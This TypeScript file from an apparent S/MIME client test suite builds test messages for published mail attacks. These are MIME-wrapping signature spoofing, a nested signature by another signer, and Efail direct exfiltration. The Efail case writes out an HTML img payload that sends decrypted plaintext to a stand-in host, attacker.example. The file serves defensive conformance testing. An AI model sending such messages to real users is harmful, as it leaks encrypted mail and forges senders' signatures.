/**
 * The MIME shapes of two published attacks on S/MIME mail clients, as whole messages:
 * - MIME wrapping (J. Mueller, M. Brinkmann, D. Poddebniak et al., "'Johnny, you are fired!' -
 *   Spoofing OpenPGP and S/MIME Signatures in Emails", USENIX Security 2019): Alice's valid
 *   multipart/signed as the second part of a multipart/mixed whose first, unsigned part is the
 *   attacker's text; and a valid multipart/signed by Alice wrapped in a second signature by
 *   someone else (Diane), From: Alice, so a client that shows the inner signer for the outer
 *   signature shows Alice.
 * - Efail direct exfiltration (D. Poddebniak, C. Dresen, J. Mueller et al., "Efail: Breaking
 *   S/MIME and OpenPGP Email Encryption using Exfiltration Channels", USENIX Security 2018): an
 *   application/pkcs7-mime EnvelopedData between two unencrypted text/html parts, the first
 *   opening <img src="http://attacker.example/ and the last closing it, so a client that renders
 *   the three as one document sends the plaintext to the attacker.
 * The signatures and the encryption are real and valid: only the wrapping is the attack. The RFC
 * 8551 6 statements bind the client; what a message shows is the shape (see the rules in
 * checkers/rules/rfc8551-origins.ts and the flag's text).
 */
import type { CaseContext } from '../../case.ts';
import { buildEnvelopedData } from '../../cms/enveloped-data.ts';
import { boundary, pkcs7MimeEntity, textEntity } from '../../mime/entity.ts';
import { htmlEntity, multipartMixed } from '../../mime/mixed.ts';
import { ktri } from '../../cases/common.ts';
import { bytesOf, innerEntity, multipartSignedEntity, toMessage } from '../../cases/smime-common.ts';
import type { Mutation } from '../mutation.ts';

const RSA256 = { kind: 'rsa-pkcs1-sha', digest: 'sha256' } as const;
const mixedBoundary = (ctx: CaseContext): string => boundary(ctx.rnd.fork('mixed-boundary'));

/** What the attacker shows above Alice's signed part: no signature covers it. */
export const UNSIGNED_TEXT = ['Johnny, you are fired.', '-- Alice (not signed: this part is the attacker\'s)', ''].join('\r\n');

export const MIME_WRAPPING_MUTATIONS: readonly Mutation[] = [
  {
    id: 'invalid/attack-classes/mime-wrap-signed-beside-unsigned',
    description: 'multipart/mixed holding an unsigned text/plain part ("Johnny, you are fired.") and then Alice\'s valid multipart/signed (MIME wrapping, Mueller et al. 2019); a client that shows the whole message as signed by Alice spoofs her signature on text she never signed',
    stage: 'before',
    base: 'smime/multipart-signed/rsa-sha256',
    requirements: ['rfc8551/6/multipart-mixed-separate-origins'],
    flag: 'MimeWrappingSpoof',
    expected: 'acceptable',
    // RFC 8551 6 is new in S/MIME 4.0 (RFC 2633 has no such statement).
    profiles: ['current'],
    apply: ({ ctx }) => ({
      bytes: toMessage(ctx, 'invalid/attack-classes/mime-wrap-signed-beside-unsigned', multipartMixed(mixedBoundary(ctx), [
        textEntity(UNSIGNED_TEXT),
        multipartSignedEntity(ctx, innerEntity(), 'alice-rsa', RSA256),
      ])),
    }),
  },
  {
    id: 'invalid/attack-classes/nested-signed-other-signer',
    description: 'From: alice@example.com; a multipart/signed by Diane whose signed part is a valid multipart/signed by Alice (nested signed entities, Mueller et al. 2019); a client that shows the inner signer as the sender of the outer signature shows Alice for a message Diane sent (the outer signer is none of the From addresses, RFC 8550 3)',
    stage: 'before',
    base: 'smime/multipart-signed/rsa-sha256',
    requirements: ['rfc8550/3/from-matches-certificate'],
    flag: 'MimeWrappingSpoof',
    expected: 'acceptable',
    apply: ({ ctx }) => {
      const inner = multipartSignedEntity(ctx, innerEntity(), 'alice-rsa', RSA256);
      // The outer signature's own seeded streams (signature, boundary), apart from the inner one's.
      const outerCtx = { ...ctx, rnd: ctx.rnd.fork('outer') };
      return {
        bytes: toMessage(ctx, 'invalid/attack-classes/nested-signed-other-signer', multipartSignedEntity(outerCtx, inner, 'diane-rsa', RSA256)),
        ownContent: { name: 'attack-nested-signed-inner.txt', bytes: bytesOf(inner) },
        signers: ['diane-rsa'],
      };
    },
  },
  {
    id: 'invalid/attack-classes/efail-direct-exfiltration',
    description: 'multipart/mixed: text/html <img src="http://attacker.example/, then an application/pkcs7-mime EnvelopedData for Bob (AES-128-CBC), then text/html "> (Efail direct exfiltration, Poddebniak et al. 2018); a client that renders the parts as one HTML document sends the plaintext to the attacker: RFC 8551 6 has clients refuse text/html that is not a complete document',
    stage: 'before',
    base: 'smime/pkcs7-mime/enveloped-data',
    requirements: ['rfc8551/6/html-complete-document'],
    flag: 'EfailDirectExfiltration',
    expected: 'invalid',
    profiles: ['current'],
    apply: ({ ctx }) => {
      const envelope = buildEnvelopedData({ content: bytesOf(innerEntity()), cipher: 'aes-128-cbc', recipients: [ktri(ctx.cast, 'bob-rsa', { padding: 'pkcs1' })] }, ctx.rnd.fork('envelope'));
      return {
        bytes: toMessage(ctx, 'invalid/attack-classes/efail-direct-exfiltration', multipartMixed(mixedBoundary(ctx), [
          htmlEntity('<img src="http://attacker.example/'),
          pkcs7MimeEntity(envelope, 'enveloped-data'),
          htmlEntity('">'),
        ])),
      };
    },
  },
];
